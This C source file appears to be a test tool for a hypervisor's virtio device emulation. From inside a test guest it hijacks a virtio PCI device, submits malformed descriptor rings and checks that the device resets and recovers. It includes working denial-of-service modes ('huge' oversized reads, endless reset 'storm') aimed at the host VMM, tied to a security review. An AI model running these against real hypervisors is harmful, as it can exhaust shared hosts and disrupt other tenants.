/* SPDX-License-Identifier: BSD-2-Clause */
/* A malicious guest driver (runs as root inside an L2 test guest): takes a virtio device away
 * from its driver, programs it through BAR 0 by hand and submits broken rings:
 *   loop   a descriptor chain that loops (0 -> 1 -> 0)
 *   range  a buffer far outside guest RAM
 * After each, it checks that the device reports NEEDS_RESET and that a reset brings it back.
 * Two more modes attack the VMM's availability (the review's findings 1 and 2):
 *   huge   (a virtio-blk device) 64 reads of 511 MiB each in one kick: indirect tables of 1022
 *          descriptors all pointing at the same 512 KiB buffer; prints how many got IOERR
 *   storm  (any virtio device) the reset/enable loop with an invalid ring, forever: every cycle
 *          asks the device to log a line
 * Prints "EVIL name=result" lines. Usage: evil-virtio PCI-ADDRESS [huge|storm]
 * (e.g. 0000:00:06.0) */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define COMMON 0x0000
#define NOTIFY 0x3000
#define ST_ACK 1
#define ST_DRIVER 2
#define ST_DRIVER_OK 4
#define ST_FEATURES_OK 8
#define ST_NEEDS_RESET 0x40
#define QSIZE 8

struct desc {
	uint64_t addr;
	uint32_t len;
	uint16_t flags, next;
};

static volatile uint8_t *bar;

static void w8(unsigned off, uint8_t v) { *(volatile uint8_t *)(bar + off) = v; }
static void w16(unsigned off, uint16_t v) { *(volatile uint16_t *)(bar + off) = v; }
static void w32(unsigned off, uint32_t v) { *(volatile uint32_t *)(bar + off) = v; }
static uint8_t r8(unsigned off) { return *(volatile uint8_t *)(bar + off); }

static uint64_t phys_of(void *p)
{
	int fd = open("/proc/self/pagemap", O_RDONLY);
	uint64_t e = 0;
	if (fd < 0 || pread(fd, &e, 8, (off_t)((uintptr_t)p / 4096) * 8) != 8)
		return 0;
	close(fd);
	if (!(e & (1ULL << 63)))
		return 0;
	return (e & ((1ULL << 55) - 1)) * 4096 + (uintptr_t)p % 4096;
}

static void sysfs_write(const char *path, const char *val)
{
	int fd = open(path, O_WRONLY);
	if (fd >= 0) {
		if (write(fd, val, strlen(val)) < 0)
			perror(path);
		close(fd);
	}
}

/* Set the device up with queue 0 at `page` and submit descriptor 0; returns the status. */
static uint8_t submit(uint8_t *page, uint64_t pa)
{
	w8(COMMON + 0x14, 0); /* reset */
	while (r8(COMMON + 0x14) != 0)
		;
	w8(COMMON + 0x14, ST_ACK | ST_DRIVER);
	w32(COMMON + 0x08, 1);
	w32(COMMON + 0x0c, 1); /* VERSION_1 only */
	w32(COMMON + 0x08, 0);
	w32(COMMON + 0x0c, 0);
	w8(COMMON + 0x14, ST_ACK | ST_DRIVER | ST_FEATURES_OK);
	w16(COMMON + 0x16, 0);
	w16(COMMON + 0x18, QSIZE);
	w32(COMMON + 0x20, (uint32_t)pa);
	w32(COMMON + 0x24, (uint32_t)(pa >> 32));
	w32(COMMON + 0x28, (uint32_t)(pa + 1024));
	w32(COMMON + 0x2c, (uint32_t)((pa + 1024) >> 32));
	w32(COMMON + 0x30, (uint32_t)(pa + 2048));
	w32(COMMON + 0x34, (uint32_t)((pa + 2048) >> 32));
	w16(COMMON + 0x1c, 1);
	w8(COMMON + 0x14, ST_ACK | ST_DRIVER | ST_FEATURES_OK | ST_DRIVER_OK);
	volatile uint16_t *avail = (volatile uint16_t *)(page + 1024);
	avail[2] = 0;                  /* ring[0] = descriptor 0 */
	__sync_synchronize();
	avail[1] = (uint16_t)(avail[1] + 1); /* idx */
	__sync_synchronize();
	w16(NOTIFY, 0);
	for (int i = 0; i < 200 && !(r8(COMMON + 0x14) & ST_NEEDS_RESET); i++)
		usleep(10000);
	return r8(COMMON + 0x14);
}

static void reset_and_wait(void)
{
	w8(COMMON + 0x14, 0);
	for (int i = 0; i < 100000 && r8(COMMON + 0x14) != 0; i++)
		usleep(100);
}

/* The reset/enable loop: status 0, ACK|DRIVER, VERSION_1, FEATURES_OK, a ring outside RAM,
 * queue enable. Never returns. */
static void storm(void)
{
	printf("EVIL storm=running\n");
	fflush(stdout);
	for (;;) {
		w8(COMMON + 0x14, 0);
		w8(COMMON + 0x14, ST_ACK | ST_DRIVER);
		w32(COMMON + 0x08, 1);
		w32(COMMON + 0x0c, 1);
		w8(COMMON + 0x14, ST_ACK | ST_DRIVER | ST_FEATURES_OK);
		w16(COMMON + 0x16, 0);
		w32(COMMON + 0x20, 0x7ffff000);
		w32(COMMON + 0x24, 0);
		w16(COMMON + 0x1c, 1);
	}
}

#define HUGE_REQS 64
#define HUGE_SEGS 1022
#define HUGE_SEG_LEN (512u * 1024)

/* 64 reads of 1022 x 512 KiB on one kick. Everything lives in one 2 MiB huge page (physically
 * contiguous): rings at +0, headers at +4 KiB, status bytes at +5 KiB, the data
 * buffer at +512 KiB, the indirect tables (16 KiB each) at +1 MiB. */
static int huge(void)
{
	size_t two = 2u << 20;
	/* a hugetlb page if the kernel gives one, else a transparent huge page */
	sysfs_write("/proc/sys/vm/nr_hugepages", "2");
	uint8_t *h = mmap(NULL, two, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | (21 << MAP_HUGE_SHIFT), -1, 0);
	if (h == MAP_FAILED) {
		uint8_t *raw = mmap(NULL, 2 * two, PROT_READ | PROT_WRITE,
				    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (raw == MAP_FAILED) {
			printf("EVIL huge=cannot map\n");
			return 1;
		}
		h = (uint8_t *)(((uintptr_t)raw + two - 1) & ~(uintptr_t)(two - 1));
		madvise(h, two, MADV_HUGEPAGE);
	}
	memset(h, 0, two);
	mlock(h, two);
	uint64_t pa = phys_of(h);
	for (size_t off = 0; pa && off < two; off += 4096)
		if (phys_of(h + off) != pa + off)
			pa = 0;
	if (!pa) {
		printf("EVIL huge=no contiguous 2 MiB\n");
		return 1;
	}
	reset_and_wait();
	w8(COMMON + 0x14, ST_ACK | ST_DRIVER);
	w32(COMMON + 0x08, 0);
	w32(COMMON + 0x0c, 1u << 28); /* INDIRECT_DESC */
	w32(COMMON + 0x08, 1);
	w32(COMMON + 0x0c, 1); /* VERSION_1 */
	w8(COMMON + 0x14, ST_ACK | ST_DRIVER | ST_FEATURES_OK);
	w16(COMMON + 0x16, 0);
	w16(COMMON + 0x18, HUGE_REQS);
	w32(COMMON + 0x20, (uint32_t)pa);
	w32(COMMON + 0x24, (uint32_t)(pa >> 32));
	w32(COMMON + 0x28, (uint32_t)(pa + 1024));
	w32(COMMON + 0x2c, (uint32_t)((pa + 1024) >> 32));
	w32(COMMON + 0x30, (uint32_t)(pa + 2048));
	w32(COMMON + 0x34, (uint32_t)((pa + 2048) >> 32));
	w16(COMMON + 0x1c, 1);
	w8(COMMON + 0x14, ST_ACK | ST_DRIVER | ST_FEATURES_OK | ST_DRIVER_OK);
	struct desc *ring = (struct desc *)h;
	volatile uint16_t *avail = (volatile uint16_t *)(h + 1024);
	volatile uint16_t *used = (volatile uint16_t *)(h + 2048);
	for (unsigned r = 0; r < HUGE_REQS; r++) {
		struct desc *t = (struct desc *)(h + (1u << 20) + 16384u * r);
		uint64_t tpa = pa + (1u << 20) + 16384u * r;
		uint8_t *hdr = h + 4096 + 16 * r; /* type 0 (read), sector 0 */
		memset(hdr, 0, 16);
		h[5120 + r] = 0xee;
		t[0] = (struct desc){pa + 4096 + 16 * r, 16, 1, 1};
		for (unsigned k = 0; k < HUGE_SEGS; k++)
			t[k + 1] = (struct desc){pa + (512u << 10), HUGE_SEG_LEN, 1 | 2,
						 (uint16_t)(k + 2)};
		t[HUGE_SEGS + 1] = (struct desc){pa + 5120 + r, 1, 2, 0};
		ring[r] = (struct desc){tpa, 16 * (HUGE_SEGS + 2), 4 /* INDIRECT */, 0};
		avail[2 + r] = (uint16_t)r;
	}
	__sync_synchronize();
	avail[1] = HUGE_REQS;
	__sync_synchronize();
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	w16(NOTIFY, 0);
	for (int i = 0; i < 6000 && used[1] != HUGE_REQS; i++)
		usleep(10000);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	unsigned ioerr = 0;
	for (unsigned r = 0; r < HUGE_REQS; r++)
		ioerr += h[5120 + r] == 1;
	printf("EVIL huge=%u/%u refused, %u answered in %.2f s\n", ioerr, HUGE_REQS, used[1],
	       (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9);
	reset_and_wait();
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 2 && argc != 3) {
		fprintf(stderr, "usage: evil-virtio PCI-ADDRESS [huge|storm]\n");
		return 2;
	}
	char path[256];
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/driver/unbind", argv[1]);
	sysfs_write(path, argv[1]);
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/enable", argv[1]);
	sysfs_write(path, "1");
	/* unbinding disabled the device, which clears Bus Master Enable: without it the device
	 * takes nothing from its queues (PCI), so set it as a driver's pci_set_master() would */
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/config", argv[1]);
	int cfd = open(path, O_RDWR);
	uint16_t cmd = 0;
	if (cfd < 0 || pread(cfd, &cmd, 2, 4) != 2 || (cmd |= 4, pwrite(cfd, &cmd, 2, 4)) != 2) {
		printf("EVIL setup=cannot set bus master: %s\n", strerror(errno));
		return 1;
	}
	close(cfd);
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource0", argv[1]);
	int fd = open(path, O_RDWR | O_SYNC);
	if (fd < 0) {
		printf("EVIL setup=cannot open %s: %s\n", path, strerror(errno));
		return 1;
	}
	bar = mmap(NULL, 0x4000, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	uint8_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (bar == MAP_FAILED || page == MAP_FAILED || mlock(page, 4096) != 0) {
		printf("EVIL setup=cannot map: %s\n", strerror(errno));
		return 1;
	}
	if (argc == 3 && strcmp(argv[2], "huge") == 0)
		return huge();
	if (argc == 3 && strcmp(argv[2], "storm") == 0)
		storm();
	memset(page, 0, 4096);
	uint64_t pa = phys_of(page);
	if (!pa) {
		printf("EVIL setup=no physical address\n");
		return 1;
	}
	struct desc *d = (struct desc *)page;

	/* 1. a loop: 0 -> 1 -> 0, both writable buffers inside the page */
	d[0] = (struct desc){pa + 3072, 16, 1 | 2, 1};
	d[1] = (struct desc){pa + 3088, 16, 1 | 2, 0};
	uint8_t st = submit(page, pa);
	printf("EVIL loop=%s\n", (st & ST_NEEDS_RESET) ? "needs-reset" : "accepted");

	/* 2. a buffer 1 TiB up, far outside guest RAM */
	memset(page, 0, 4096);
	d[0] = (struct desc){1ULL << 40, 4096, 2, 0};
	st = submit(page, pa);
	printf("EVIL range=%s\n", (st & ST_NEEDS_RESET) ? "needs-reset" : "accepted");

	/* 3. after a reset the device works again: a good request gets random bytes */
	memset(page, 0, 4096);
	d[0] = (struct desc){pa + 3072, 32, 2, 0};
	st = submit(page, pa);
	volatile uint16_t *used = (volatile uint16_t *)(page + 2048);
	for (int i = 0; i < 200 && used[1] == 0; i++)
		usleep(10000);
	int nonzero = 0;
	for (int i = 0; i < 32; i++)
		nonzero |= page[3072 + i];
	printf("EVIL recovered=%s\n", used[1] == 1 && nonzero && !(st & ST_NEEDS_RESET) ? "yes" : "no");
	w8(COMMON + 0x14, 0);
	return 0;
}
